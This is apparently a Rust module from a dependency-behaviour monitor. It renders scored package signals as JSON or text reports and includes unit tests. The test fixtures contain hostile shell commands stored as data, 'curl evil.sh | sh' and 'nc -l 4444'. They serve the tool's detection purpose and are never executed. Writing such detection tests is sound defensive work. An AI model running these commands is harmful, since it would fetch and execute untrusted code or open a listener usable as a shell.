//! Report views over scored signals.
//!
//! Two projections of the same content: the structured v1.0 wire
//! format (JSON) and an equivalent human-readable text rendering
//! grouped by package, highest risk first.

use crate::config::{OutputConfig, Verbosity};
use crate::error::Error;
use crate::scoring::{PackageScore, RiskLevel};
use crate::signal::{Signal, SignalType, SignalView};
use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::Value;
use std::collections::{BTreeMap, HashMap};
use std::str::FromStr;

/// Requested report rendering.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ReportFormat {
    /// Human-readable text
    Cli,
    /// Structured v1.0 JSON
    Json,
}

impl FromStr for ReportFormat {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "cli" => Ok(Self::Cli),
            "json" => Ok(Self::Json),
            other => Err(Error::UnknownFormat(other.to_string())),
        }
    }
}

/// Histogram of packages per risk tier.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct RiskDistribution {
    pub critical: usize,
    pub high: usize,
    pub medium: usize,
    pub low: usize,
}

impl RiskDistribution {
    fn bump(&mut self, level: RiskLevel) {
        match level {
            RiskLevel::Critical => self.critical += 1,
            RiskLevel::High => self.high += 1,
            RiskLevel::Medium => self.medium += 1,
            RiskLevel::Low => self.low += 1,
        }
    }
}

/// Report summary block.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ReportSummary {
    pub total_packages: usize,
    /// Attributed signals only; unattributed events never reach the buffer
    pub total_signals: usize,
    pub risk_distribution: RiskDistribution,
}

/// Per-package report entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PackageReportEntry {
    pub name: String,
    pub version: String,
    pub trust_score: u32,
    pub risk_level: RiskLevel,
    pub signal_count: usize,
    pub behaviors: BTreeMap<SignalType, usize>,
}

/// Structured report, wire format v1.0.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Report {
    pub version: String,
    pub timestamp: DateTime<Utc>,
    pub summary: ReportSummary,
    /// Sorted by ascending score: highest risk first
    pub packages: Vec<PackageReportEntry>,
    pub signals: Vec<SignalView>,
}

impl Report {
    /// Wire format version.
    pub const VERSION: &'static str = "1.0";

    /// Build a report over a signal snapshot and its scores.
    pub fn build(
        signals: &[Signal],
        scores: &HashMap<String, PackageScore>,
        output: &OutputConfig,
    ) -> Self {
        let mut distribution = RiskDistribution::default();
        let mut packages: Vec<PackageReportEntry> = scores
            .values()
            .map(|score| {
                distribution.bump(score.risk_level);
                PackageReportEntry {
                    name: score.package.name.clone(),
                    version: score.package.version.clone(),
                    trust_score: score.score,
                    risk_level: score.risk_level,
                    signal_count: score.signal_count,
                    behaviors: score.stats.iter().map(|(t, n)| (*t, *n)).collect(),
                }
            })
            .collect();
        packages.sort_by(|a, b| {
            a.trust_score
                .cmp(&b.trust_score)
                .then_with(|| a.name.cmp(&b.name))
                .then_with(|| a.version.cmp(&b.version))
        });

        Self {
            version: Self::VERSION.to_string(),
            timestamp: Utc::now(),
            summary: ReportSummary {
                total_packages: packages.len(),
                total_signals: signals.len(),
                risk_distribution: distribution,
            },
            packages,
            signals: signals
                .iter()
                .map(|s| s.to_view(output.include_stack_traces))
                .collect(),
        }
    }

    /// Serialize to pretty-printed JSON.
    pub fn to_json(&self) -> String {
        serde_json::to_string_pretty(self).unwrap_or_else(|_| "{}".to_string())
    }

    /// Render the equivalent human-readable view.
    pub fn render_text(&self, verbosity: Verbosity) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "Runtime dependency report - {}\n",
            self.timestamp.format("%Y-%m-%d %H:%M:%S UTC")
        ));
        out.push_str(&format!(
            "Packages: {} · Signals: {}\n",
            self.summary.total_packages, self.summary.total_signals
        ));
        let d = self.summary.risk_distribution;
        out.push_str(&format!(
            "Risk: {} critical / {} high / {} medium / {} low\n",
            d.critical, d.high, d.medium, d.low
        ));

        if verbosity == Verbosity::Quiet {
            return out;
        }

        for package in &self.packages {
            out.push('\n');
            out.push_str(&format!(
                "[{}] {}@{} - score {}/100 ({} signals)\n",
                package.risk_level, package.name, package.version, package.trust_score,
                package.signal_count
            ));
            let behaviors: Vec<String> = package
                .behaviors
                .iter()
                .map(|(t, n)| format!("{}: {}", t, n))
                .collect();
            if !behaviors.is_empty() {
                out.push_str(&format!("  {}\n", behaviors.join(", ")));
            }

            if verbosity == Verbosity::Verbose {
                for view in self
                    .signals
                    .iter()
                    .filter(|v| v.package == package.name && v.version == package.version)
                {
                    out.push_str(&format!(
                        "  - {} {} {}\n",
                        view.timestamp.format("%H:%M:%S%.3f"),
                        view.signal_type,
                        describe_metadata(&view.metadata)
                    ));
                }
            }
        }

        out
    }
}

fn describe_metadata(metadata: &BTreeMap<String, Value>) -> String {
    let mut parts = Vec::new();
    // Stable key order keeps the rendering deterministic.
    for (key, value) in metadata {
        match value {
            Value::String(s) => parts.push(format!("{key}={s}")),
            other => parts.push(format!("{key}={other}")),
        }
    }
    parts.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribution::CallStack;
    use crate::scoring::{score_packages, RiskThresholds, RiskWeights};
    use crate::signal::{PackageIdentity, SignalMetadata};
    use pretty_assertions::assert_eq;
    use std::path::PathBuf;

    fn buffer() -> Vec<Signal> {
        let risky = PackageIdentity::new("risky", "1.0.0");
        let quiet = PackageIdentity::new("quiet", "2.0.0");
        vec![
            Signal::new(
                risky.clone(),
                SignalMetadata::ShellExec {
                    command: "curl evil.sh | sh".into(),
                    operation: "exec".into(),
                },
                CallStack::empty(),
            ),
            Signal::new(
                risky.clone(),
                SignalMetadata::ShellExec {
                    command: "nc -l 4444".into(),
                    operation: "exec".into(),
                },
                CallStack::empty(),
            ),
            Signal::new(
                risky,
                SignalMetadata::FsWrite {
                    path: PathBuf::from("/tmp/drop"),
                    operation: "write_file".into(),
                },
                CallStack::empty(),
            ),
            Signal::new(
                quiet,
                SignalMetadata::FsRead {
                    path: PathBuf::from("/tmp/config.json"),
                    operation: "read_file".into(),
                },
                CallStack::empty(),
            ),
        ]
    }

    fn report(signals: &[Signal]) -> Report {
        let scores =
            score_packages(signals, &RiskWeights::default(), &RiskThresholds::default());
        Report::build(signals, &scores, &OutputConfig::default())
    }

    #[test]
    fn test_format_parsing() {
        assert_eq!("cli".parse::<ReportFormat>().unwrap(), ReportFormat::Cli);
        assert_eq!("json".parse::<ReportFormat>().unwrap(), ReportFormat::Json);
        assert!("xml".parse::<ReportFormat>().is_err());
    }

    #[test]
    fn test_build_summary_and_order() {
        let signals = buffer();
        let report = report(&signals);

        assert_eq!(report.version, "1.0");
        assert_eq!(report.summary.total_packages, 2);
        assert_eq!(report.summary.total_signals, 4);
        assert_eq!(report.summary.risk_distribution.critical, 0);
        assert_eq!(report.summary.risk_distribution.high, 1);
        assert_eq!(report.summary.risk_distribution.low, 1);

        // risky (100 - 20 - 20 - 10 = 50) sorts before quiet (97).
        assert_eq!(report.packages[0].name, "risky");
        assert_eq!(report.packages[0].trust_score, 50);
        assert_eq!(report.packages[1].name, "quiet");
        assert_eq!(report.packages[1].trust_score, 97);
    }

    #[test]
    fn test_json_wire_shape() {
        let signals = buffer();
        let value: Value = serde_json::from_str(&report(&signals).to_json()).unwrap();

        assert_eq!(value["version"], "1.0");
        assert!(value["summary"]["riskDistribution"]["critical"].is_number());
        let first = &value["packages"][0];
        for key in ["name", "version", "trustScore", "riskLevel", "signalCount", "behaviors"] {
            assert!(first.get(key).is_some(), "missing key {key}");
        }
        let signal = &value["signals"][0];
        assert!(signal.get("stack").is_none());
        assert_eq!(signal["metadata"]["operation"], "exec");
    }

    #[test]
    fn test_stack_included_on_request() {
        let signals = buffer();
        let scores =
            score_packages(&signals, &RiskWeights::default(), &RiskThresholds::default());
        let output = OutputConfig {
            include_stack_traces: true,
            ..Default::default()
        };
        let report = Report::build(&signals, &scores, &output);
        assert!(report.signals[0].stack.is_some());
    }

    #[test]
    fn test_text_rendering_verbosity() {
        let signals = buffer();
        let report = report(&signals);

        let quiet = report.render_text(Verbosity::Quiet);
        assert!(quiet.contains("Packages: 2"));
        assert!(!quiet.contains("risky@1.0.0"));

        let normal = report.render_text(Verbosity::Normal);
        assert!(normal.contains("[HIGH] risky@1.0.0 - score 50/100 (3 signals)"));
        assert!(normal.contains("shellExec: 2"));
        assert!(!normal.contains("curl evil.sh"));

        let verbose = report.render_text(Verbosity::Verbose);
        assert!(verbose.contains("command=curl evil.sh | sh"));
    }

    #[test]
    fn test_empty_report() {
        let report = report(&[]);
        assert_eq!(report.summary.total_packages, 0);
        assert!(report.packages.is_empty());
        let text = report.render_text(Verbosity::Normal);
        assert!(text.contains("Packages: 0 · Signals: 0"));
    }
}
